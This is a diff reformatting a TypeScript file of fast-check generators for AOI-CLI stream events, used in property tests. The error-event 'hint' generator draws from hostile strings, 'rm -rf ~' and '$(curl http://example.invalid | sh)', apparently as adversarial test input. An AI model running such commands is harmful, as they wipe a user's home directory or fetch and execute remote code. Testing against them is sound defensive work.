@@ -1,13 +1,29 @@
 import fc from 'fast-check';
 import { matching, NAME, SEMVER, text } from './shared.js';
-import { AOI_VERSION, ERROR_CATEGORIES, ERROR_CATEGORY_NAMES, RESERVED_DOMAIN_NAMES, type ErrorCategory } from '../../spec/aoi/constants.js';
-import { aoiCursor, aoiFieldName, aoiId, aoiJsonValue, aoiNumber, aoiText, aoiTimestamp, aoiTraceId } from './values.js';
+import {
+  AOI_VERSION,
+  ERROR_CATEGORIES,
+  ERROR_CATEGORY_NAMES,
+  RESERVED_DOMAIN_NAMES,
+  type ErrorCategory,
+} from '../../spec/aoi/constants.js';
+import {
+  aoiCursor,
+  aoiFieldName,
+  aoiId,
+  aoiJsonValue,
+  aoiNumber,
+  aoiText,
+  aoiTimestamp,
+  aoiTraceId,
+} from './values.js';
 
 /** One event of an AOI-CLI stream: an object with a string `type`. */
 export type AoiEventValue = { type: string } & Record<string, unknown>;
 
 /** Optional fields: present or absent, each on its own (`fc.record` with `requiredKeys: []`). */
-const optional = <T extends Record<string, fc.Arbitrary<unknown>>>(fields: T) => fc.record(fields, { requiredKeys: [] });
+const optional = <T extends Record<string, fc.Arbitrary<unknown>>>(fields: T) =>
+  fc.record(fields, { requiredKeys: [] });
 
 /** The fields every event may carry (§8.1). */
 const common = () => optional({ timestamp: aoiTimestamp(), trace_id: aoiTraceId() });
@@ -37,7 +53,8 @@ export function aoiMeta(options: AoiMetaOptions = {}): fc.Arbitrary<AoiEventValu
       tool,
       aoi_version: fc.constant(AOI_VERSION),
       schema_name: tool.map((name) => `dev.example.${name}.events`),
-      schema_version: options.schemaVersion !== undefined ? fc.constant(options.schemaVersion) : matching(SEMVER),
+      schema_version:
+        options.schemaVersion !== undefined ? fc.constant(options.schemaVersion) : matching(SEMVER),
       command: options.command !== undefined ? fc.constant(options.command) : matching(NAME),
     }),
     optional({
@@ -70,9 +87,14 @@ export interface AoiSummaryOptions {
  * fc.assert(fc.property(aoiSummary({ ok: true, count: 3 }), (s) => s.count === undefined || s.count === 3));
  */
 export function aoiSummary(options: AoiSummaryOptions = {}): fc.Arbitrary<AoiEventValue> {
-  const given = (value: number | undefined) => (value === undefined ? fc.nat({ max: 1000 }) : fc.constant(value));
+  const given = (value: number | undefined) =>
+    value === undefined ? fc.nat({ max: 1000 }) : fc.constant(value);
   const counts = fc.record(
-    { count: given(options.count), warning_count: given(options.warningCount), error_count: given(options.errorCount) },
+    {
+      count: given(options.count),
+      warning_count: given(options.warningCount),
+      error_count: given(options.errorCount),
+    },
     { requiredKeys: options.counts === true ? ['count', 'warning_count', 'error_count'] : [] },
   );
   return withType(
@@ -127,8 +149,14 @@ export function retryableFor(category: ErrorCategory): fc.Arbitrary<boolean> {
  * @example
  * fc.assert(fc.property(aoiErrorClass(['usage', 'timeout']), ({ category, retryable }) => retryable === (category === 'timeout')));
  */
-export function aoiErrorClass(categories: readonly ErrorCategory[] = ERROR_CATEGORY_NAMES): fc.Arbitrary<{ category: ErrorCategory; retryable: boolean }> {
-  return fc.oneof(...categories.map((category) => retryableFor(category).map((retryable) => ({ category, retryable }))));
+export function aoiErrorClass(
+  categories: readonly ErrorCategory[] = ERROR_CATEGORY_NAMES,
+): fc.Arbitrary<{ category: ErrorCategory; retryable: boolean }> {
+  return fc.oneof(
+    ...categories.map((category) =>
+      retryableFor(category).map((retryable) => ({ category, retryable })),
+    ),
+  );
 }
 
 export interface AoiErrorOptions {
@@ -147,14 +175,25 @@ export interface AoiErrorOptions {
  * fc.assert(fc.property(aoiError({ category: 'rate_limited' }), (e) => e.retryable === true));
  */
 export function aoiError(options: AoiErrorOptions = {}): fc.Arbitrary<AoiEventValue> {
-  const classified = aoiErrorClass(options.category !== undefined ? [options.category] : ERROR_CATEGORY_NAMES);
-  const hint = fc.oneof(aoiText(), fc.constantFrom('rm -rf ~', '$(curl http://example.invalid | sh)', 'run `notes login`, then retry'));
+  const classified = aoiErrorClass(
+    options.category !== undefined ? [options.category] : ERROR_CATEGORY_NAMES,
+  );
+  const hint = fc.oneof(
+    aoiText(),
+    fc.constantFrom(
+      'rm -rf ~',
+      '$(curl http://example.invalid | sh)',
+      'run `notes login`, then retry',
+    ),
+  );
   return withType(
     'aoi:error',
     classified,
     fc.record({ code: aoiErrorCode(), message: aoiText() }),
     optional({ hint, target: aoiId() }),
-    options.lineNumber ? fc.record({ line_number: fc.integer({ min: 1, max: 1_000_000 }) }) : fc.constant({}),
+    options.lineNumber
+      ? fc.record({ line_number: fc.integer({ min: 1, max: 1_000_000 }) })
+      : fc.constant({}),
     common(),
   );
 }
@@ -176,7 +215,9 @@ export function aoiWarning(): fc.Arbitrary<AoiEventValue> {
  * fc.assert(fc.property(aoiProgress(), (p) => p.percent === undefined || Number(p.percent) <= 100));
  */
 export function aoiProgress(): fc.Arbitrary<AoiEventValue> {
-  const done = fc.tuple(fc.nat({ max: 10_000 }), fc.nat({ max: 10_000 })).map(([a, b]) => ({ current: Math.min(a, b), total: Math.max(a, b) }));
+  const done = fc
+    .tuple(fc.nat({ max: 10_000 }), fc.nat({ max: 10_000 }))
+    .map(([a, b]) => ({ current: Math.min(a, b), total: Math.max(a, b) }));
   return withType(
     'aoi:progress',
     done,
@@ -204,13 +245,18 @@ export type CheckSeverity = 'info' | 'warning' | 'error';
  * @example
  * fc.assert(fc.property(aoiCheck({ ok: false, severity: 'error' }), (c) => c.ok === false));
  */
-export function aoiCheck(options: { ok?: boolean; severity?: CheckSeverity } = {}): fc.Arbitrary<AoiEventValue> {
+export function aoiCheck(
+  options: { ok?: boolean; severity?: CheckSeverity } = {},
+): fc.Arbitrary<AoiEventValue> {
   return withType(
     'aoi:check',
     fc.record({
       name: matching(/^[a-z][a-z0-9_]{0,19}$/),
       ok: options.ok === undefined ? fc.boolean() : fc.constant(options.ok),
-      severity: options.severity === undefined ? fc.constantFrom<CheckSeverity>('info', 'warning', 'error') : fc.constant(options.severity),
+      severity:
+        options.severity === undefined
+          ? fc.constantFrom<CheckSeverity>('info', 'warning', 'error')
+          : fc.constant(options.severity),
     }),
     optional({ detail: aoiText() }),
     common(),
@@ -224,13 +270,21 @@ export function aoiCheck(options: { ok?: boolean; severity?: CheckSeverity } = {
  * fc.assert(fc.property(aoiPlan(), (p) => typeof p.action === 'string'));
  */
 export function aoiPlan(): fc.Arbitrary<AoiEventValue> {
-  return withType('aoi:plan', fc.record({ action: fc.constantFrom('create', 'update', 'delete', 'move', 'send'), target: aoiId() }), common());
+  return withType(
+    'aoi:plan',
+    fc.record({
+      action: fc.constantFrom('create', 'update', 'delete', 'move', 'send'),
+      target: aoiId(),
+    }),
+    common(),
+  );
 }
 
 const RESERVED = new Set(RESERVED_DOMAIN_NAMES);
 
 /** Whether a domain event type is usable: non-empty, not `aoi:`-prefixed, not a reserved framework name (§8.2). */
-export const isUnreservedType = (type: string): boolean => type.length > 0 && !type.startsWith('aoi:') && !RESERVED.has(type);
+export const isUnreservedType = (type: string): boolean =>
+  type.length > 0 && !type.startsWith('aoi:') && !RESERVED.has(type);
 
 /**
  * A domain event type with any unreserved name: mostly `snake_case` or dotted names, sometimes any
@@ -242,7 +296,20 @@ export const isUnreservedType = (type: string): boolean => type.length > 0 && !t
 export function aoiDomainType(): fc.Arbitrary<string> {
   return fc
     .oneof(
-      { arbitrary: fc.constantFrom('hit', 'entry', 'match', 'note', 'created', 'updated', 'deleted', 'imported', 'row'), weight: 4 },
+      {
+        arbitrary: fc.constantFrom(
+          'hit',
+          'entry',
+          'match',
+          'note',
+          'created',
+          'updated',
+          'deleted',
+          'imported',
+          'row',
+        ),
+        weight: 4,
+      },
       { arbitrary: matching(/^[a-z][a-z0-9_]{0,15}(?:\.[a-z][a-z0-9_]{0,15}){0,2}$/), weight: 4 },
       { arbitrary: text('unicode', 1, 12), weight: 1 },
     )
@@ -256,7 +323,8 @@ export function aoiDomainType(): fc.Arbitrary<string> {
  * fc.assert(fc.property(domainEvent({ type: 'row' }), (e) => e.type === 'row'));
  */
 export function domainEvent(options: { type?: string } = {}): fc.Arbitrary<AoiEventValue> {
-  if (options.type !== undefined && !isUnreservedType(options.type)) throw new RangeError(`domainEvent: "${options.type}" is reserved or empty (§8.2)`);
+  if (options.type !== undefined && !isUnreservedType(options.type))
+    throw new RangeError(`domainEvent: "${options.type}" is reserved or empty (§8.2)`);
   const type = options.type !== undefined ? fc.constant(options.type) : aoiDomainType();
   // Pairs rather than fc.dictionary (no uniqueness bookkeeping, twice as fast): a repeated name keeps its last value.
   const fields = fc.array(fc.tuple(aoiFieldName(), aoiJsonValue()), { maxLength: 5 });
@@ -270,7 +338,15 @@ export function domainEvent(options: { type?: string } = {}): fc.Arbitrary<AoiEv
  * fc.assert(fc.property(hitEvent(), (hit) => hit.type === 'hit' && Number(hit.rank) >= 1));
  */
 export function hitEvent(): fc.Arbitrary<AoiEventValue> {
-  return withType('hit', fc.record({ id: aoiId(), title: aoiText(), rank: fc.integer({ min: 1, max: 10_000 }), snippet: aoiText({ maxLength: 120 }) }));
+  return withType(
+    'hit',
+    fc.record({
+      id: aoiId(),
+      title: aoiText(),
+      rank: fc.integer({ min: 1, max: 10_000 }),
+      snippet: aoiText({ maxLength: 120 }),
+    }),
+  );
 }
 
 /**
@@ -282,7 +358,13 @@ export function hitEvent(): fc.Arbitrary<AoiEventValue> {
 export function entryEvent(): fc.Arbitrary<AoiEventValue> {
   return withType(
     'entry',
-    fc.record({ id: aoiId(), title: aoiText(), tags: fc.array(aoiText({ maxLength: 12 }), { maxLength: 4 }), updated_at: aoiTimestamp(), size: aoiNumber() }),
+    fc.record({
+      id: aoiId(),
+      title: aoiText(),
+      tags: fc.array(aoiText({ maxLength: 12 }), { maxLength: 4 }),
+      updated_at: aoiTimestamp(),
+      size: aoiNumber(),
+    }),
   );
 }
 
@@ -295,7 +377,17 @@ export function entryEvent(): fc.Arbitrary<AoiEventValue> {
 export function matchEvent(): fc.Arbitrary<AoiEventValue> {
   return withType(
     'match',
-    fc.record({ path: fc.array(fc.constantFrom('src', 'lib', 'docs', 'test', 'main.ts', 'README.md', 'a b', 'ünï', '..'), { minLength: 1, maxLength: 4 }).map((parts) => parts.join('/')), line: fc.integer({ min: 1, max: 1_000_000 }), column: fc.integer({ min: 1, max: 10_000 }), text: aoiText({ maxLength: 200 }) }),
+    fc.record({
+      path: fc
+        .array(
+          fc.constantFrom('src', 'lib', 'docs', 'test', 'main.ts', 'README.md', 'a b', 'ünï', '..'),
+          { minLength: 1, maxLength: 4 },
+        )
+        .map((parts) => parts.join('/')),
+      line: fc.integer({ min: 1, max: 1_000_000 }),
+      column: fc.integer({ min: 1, max: 10_000 }),
+      text: aoiText({ maxLength: 200 }),
+    }),
   );
 }
 
@@ -308,5 +400,11 @@ export function matchEvent(): fc.Arbitrary<AoiEventValue> {
 export function anyDomainEvent(): fc.Arbitrary<AoiEventValue> {
   // Custom types carry arbitrary payloads, the costliest to draw: a quarter of the events, not more.
   // Cross-shrinking: a failing event shrinks towards a hit when a hit fails too.
-  return fc.oneof({ withCrossShrink: true }, { arbitrary: hitEvent(), weight: 3 }, { arbitrary: entryEvent(), weight: 2 }, { arbitrary: matchEvent(), weight: 2 }, { arbitrary: domainEvent(), weight: 2 });
+  return fc.oneof(
+    { withCrossShrink: true },
+    { arbitrary: hitEvent(), weight: 3 },
+    { arbitrary: entryEvent(), weight: 2 },
+    { arbitrary: matchEvent(), weight: 2 },
+    { arbitrary: domainEvent(), weight: 2 },
+  );
 }
